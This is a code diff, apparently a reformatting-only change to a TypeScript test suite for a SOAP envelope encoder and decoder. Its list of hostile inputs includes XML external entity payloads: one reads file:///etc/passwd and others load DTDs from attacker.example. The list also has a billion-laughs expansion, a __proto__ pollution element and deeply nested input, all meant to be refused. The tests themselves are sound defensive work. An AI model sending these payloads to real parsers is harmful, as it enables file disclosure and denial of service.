@@ -74,7 +74,11 @@ describe('decodeSoapRequest on hand-written envelopes', () => {
       ].join('\r\n'),
       {
         operation: 'GetChangeKeys',
-        request: { objectType: 'Account', filter: { and: [{ field: 'Name', op: 'eq', value: 'Acme' }, { not: { mine: true } }] }, pageSize: 100 },
+        request: {
+          objectType: 'Account',
+          filter: { and: [{ field: 'Name', op: 'eq', value: 'Acme' }, { not: { mine: true } }] },
+          pageSize: 100,
+        },
         headers: {},
       },
     ],
@@ -98,16 +102,24 @@ describe('decodeSoapRequest on hand-written envelopes', () => {
             <field><name>Note</name><value/></field>
           </fields>
         </fb:InsertRecord>`),
-      { operation: 'InsertRecord', request: { operationId: 'op-00000001', objectType: 'Account', fields: { Name: '  padded  ', Parent: null, Note: '' } }, headers: {} },
+      {
+        operation: 'InsertRecord',
+        request: { operationId: 'op-00000001', objectType: 'Account', fields: { Name: '  padded  ', Parent: null, Note: '' } },
+        headers: {},
+      },
     ],
     [
       'several row ids, one per element',
-      envelope('<fb:QueryRecords><objectType>Contact</objectType><rowIds>1-A</rowIds><rowIds>1-B</rowIds><rowIds>1-C</rowIds></fb:QueryRecords>'),
+      envelope(
+        '<fb:QueryRecords><objectType>Contact</objectType><rowIds>1-A</rowIds><rowIds>1-B</rowIds><rowIds>1-C</rowIds></fb:QueryRecords>',
+      ),
       { operation: 'QueryRecords', request: { objectType: 'Contact', rowIds: ['1-A', '1-B', '1-C'] }, headers: {} },
     ],
     [
       'character references, CDATA and attributes (ignored)',
-      envelope('<fb:Login xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><userName xsi:type="xsd:string">&#x41;nn&#97;&#xD;</userName><password><![CDATA[p<&>w]]></password></fb:Login>'),
+      envelope(
+        '<fb:Login xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><userName xsi:type="xsd:string">&#x41;nn&#97;&#xD;</userName><password><![CDATA[p<&>w]]></password></fb:Login>',
+      ),
       { operation: 'Login', request: { userName: 'Anna\r', password: 'p<&>w' }, headers: {} },
     ],
   ];
@@ -124,7 +136,11 @@ describe('decodeSoapRequest on hand-written envelopes', () => {
       `<fb:InsertRecord xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><operationId>op-00000001</operationId><objectType>A</objectType>` +
         `<fields><field><name>Parent</name><value i:nil="true"/></field><field><name>Note</name><value i:nil="false"> x </value></field></fields></fb:InsertRecord>`,
     );
-    expect(decodeSoapRequest(insert, undefined).request).toEqual({ operationId: 'op-00000001', objectType: 'A', fields: { Parent: null, Note: ' x ' } });
+    expect(decodeSoapRequest(insert, undefined).request).toEqual({
+      operationId: 'op-00000001',
+      objectType: 'A',
+      fields: { Parent: null, Note: ' x ' },
+    });
   });
 
   test('a request that breaks the schema is refused with the operation as the path root', () => {
@@ -134,9 +150,9 @@ describe('decodeSoapRequest on hand-written envelopes', () => {
   });
 
   test('text beside child elements (mixed content) is refused', () => {
-    expect(refusal(() => decodeSoapRequest(envelope('<fb:Login>junk<userName>a</userName><password>p</password></fb:Login>'), undefined)).code).toBe(
-      'INVALID_REQUEST',
-    );
+    expect(
+      refusal(() => decodeSoapRequest(envelope('<fb:Login>junk<userName>a</userName><password>p</password></fb:Login>'), undefined)).code,
+    ).toBe('INVALID_REQUEST');
   });
 });
 
@@ -189,13 +205,21 @@ ${envelope('<fb:Login><userName>&lol9;</userName><password>pw</password></fb:Log
 const HOSTILE: Array<[string, string, RegExp]> = [
   ['malformed: unclosed element', envelope('<fb:Login><userName>anna</userName><password>pw</password>'), /Malformed XML/],
   ['malformed: crossed elements', envelope('<fb:Login><userName>anna<password></userName>pw</password></fb:Login>'), /Malformed XML/],
-  ['malformed: unquoted attribute', `<soap:Envelope xmlns:soap=${SOAP_ENV_NS}><soap:Body>${LOGIN}</soap:Body></soap:Envelope>`, /Malformed XML/],
+  [
+    'malformed: unquoted attribute',
+    `<soap:Envelope xmlns:soap=${SOAP_ENV_NS}><soap:Body>${LOGIN}</soap:Body></soap:Envelope>`,
+    /Malformed XML/,
+  ],
   ['malformed: truncated', envelope(LOGIN).slice(0, 60), /Malformed XML/],
   ['not XML at all', '{"userName":"anna"}', /Malformed XML/],
   ['empty body text', '', /Malformed XML/],
   ['two root elements', `${envelope(LOGIN)}<x/>`, /more than one root/],
   ['billion laughs', BILLION_LAUGHS, /DTD/],
-  ['external entity', `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${envelope('<fb:Login><userName>&x;</userName><password>pw</password></fb:Login>')}`, /DTD/],
+  [
+    'external entity',
+    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${envelope('<fb:Login><userName>&x;</userName><password>pw</password></fb:Login>')}`,
+    /DTD/,
+  ],
   ['external parameter entity', `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>${envelope(LOGIN)}`, /DTD/],
   ['external DTD only', `<!DOCTYPE Envelope SYSTEM "http://attacker.example/x.dtd">${envelope(LOGIN)}`, /DTD/],
   ['lower-case doctype', `<!doctype r [<!entity x "y">]>${envelope(LOGIN)}`, /DTD/],
@@ -203,17 +227,31 @@ const HOSTILE: Array<[string, string, RegExp]> = [
   ['body with the same element twice', envelope(`${LOGIN}${LOGIN}`), /exactly one element, found it repeated/],
   ['empty body', envelope(''), /no soap:Body/],
   ['no body', `<soap:Envelope xmlns:soap="${SOAP_ENV_NS}"><soap:Header/></soap:Envelope>`, /no soap:Body/],
-  ['a root other than Envelope', `<Login xmlns="${FIELDBOOK_NS}"><userName>anna</userName><password>pw</password></Login>`, /root element must be soap:Envelope/],
-  ['an Envelope holding only text', `<soap:Envelope xmlns:soap="${SOAP_ENV_NS}">hello</soap:Envelope>`, /root element must be soap:Envelope/],
+  [
+    'a root other than Envelope',
+    `<Login xmlns="${FIELDBOOK_NS}"><userName>anna</userName><password>pw</password></Login>`,
+    /root element must be soap:Envelope/,
+  ],
+  [
+    'an Envelope holding only text',
+    `<soap:Envelope xmlns:soap="${SOAP_ENV_NS}">hello</soap:Envelope>`,
+    /root element must be soap:Envelope/,
+  ],
   ['unknown operation', envelope('<fb:DropAllTables/>'), /Unknown operation "DropAllTables"/],
   ['a response element sent as a request', envelope('<fb:LoginResponse/>'), /Unknown operation "LoginResponse"/],
   // fast-xml-parser refuses element names that could pollute prototypes; refused either way.
   ['an inherited property name as operation', envelope('<fb:constructor/>'), /Malformed XML|Unknown operation "constructor"/],
-  ['an element named __proto__', envelope('<fb:Login><__proto__><isAdmin>true</isAdmin></__proto__><userName>a</userName><password>p</password></fb:Login>'), /Malformed XML|unknown field/],
+  [
+    'an element named __proto__',
+    envelope('<fb:Login><__proto__><isAdmin>true</isAdmin></__proto__><userName>a</userName><password>p</password></fb:Login>'),
+    /Malformed XML|unknown field/,
+  ],
   ['operation name in the wrong case', envelope('<fb:login/>'), /Unknown operation "login"/],
   [
     'nesting 20 000 elements deep',
-    envelope(`<fb:EstimateCount><objectType>A</objectType><filter>${'<not>'.repeat(20_000)}<mine>true</mine>${'</not>'.repeat(20_000)}</filter></fb:EstimateCount>`),
+    envelope(
+      `<fb:EstimateCount><objectType>A</objectType><filter>${'<not>'.repeat(20_000)}<mine>true</mine>${'</not>'.repeat(20_000)}</filter></fb:EstimateCount>`,
+    ),
     /Malformed XML|nested too deeply/,
   ],
 ];
@@ -248,7 +286,12 @@ const REQUESTS: Array<{ [N in OperationName]: [N, RequestOf<N>, SoapHeaders] }[O
       filter: {
         and: [
           { field: 'Name', op: 'startsWith', value: 'Ac&me' },
-          { or: [{ field: 'Status', in: ['Open', 'Won <big>'] }, { field: 'Parent', isNull: true }] },
+          {
+            or: [
+              { field: 'Status', in: ['Open', 'Won <big>'] },
+              { field: 'Parent', isNull: true },
+            ],
+          },
           { not: { mine: true } },
           { field: 'Due', withinDays: { from: -90, to: 0 } },
         ],
@@ -299,8 +342,16 @@ describe('encodeSoapRequest → decodeSoapRequest', () => {
   });
 
   test('numbers and booleans in field values come back as text: SOAP field values are text', () => {
-    const xml = encodeSoapRequest('InsertRecord', { operationId: 'op-00000005', objectType: 'A', fields: { Count: 5, Vip: true, Ratio: 0.5 } });
-    expect(decodeSoapRequest(xml, undefined).request).toEqual({ operationId: 'op-00000005', objectType: 'A', fields: { Count: '5', Vip: 'true', Ratio: '0.5' } });
+    const xml = encodeSoapRequest('InsertRecord', {
+      operationId: 'op-00000005',
+      objectType: 'A',
+      fields: { Count: 5, Vip: true, Ratio: 0.5 },
+    });
+    expect(decodeSoapRequest(xml, undefined).request).toEqual({
+      operationId: 'op-00000005',
+      objectType: 'A',
+      fields: { Count: '5', Vip: 'true', Ratio: '0.5' },
+    });
   });
 
   test('a filter value that is a number comes back as text (the compared field decides its meaning)', () => {
@@ -386,7 +437,9 @@ describe('encodeSoapFault → decodeSoapResponse rethrows the same ProtocolError
   });
 
   test('a fault with a code outside the contract becomes INTERNAL', () => {
-    const odd = envelope('<soap:Fault><faultcode>soap:Client</faultcode><faultstring>x</faultstring><detail><fb:error><code>TEAPOT</code><message>short and stout</message></fb:error></detail></soap:Fault>');
+    const odd = envelope(
+      '<soap:Fault><faultcode>soap:Client</faultcode><faultstring>x</faultstring><detail><fb:error><code>TEAPOT</code><message>short and stout</message></fb:error></detail></soap:Fault>',
+    );
     const received = refusal(() => decodeSoapResponse('Login', odd));
     expect(received.code).toBe('INTERNAL');
     expect(received.message).toBe('short and stout');
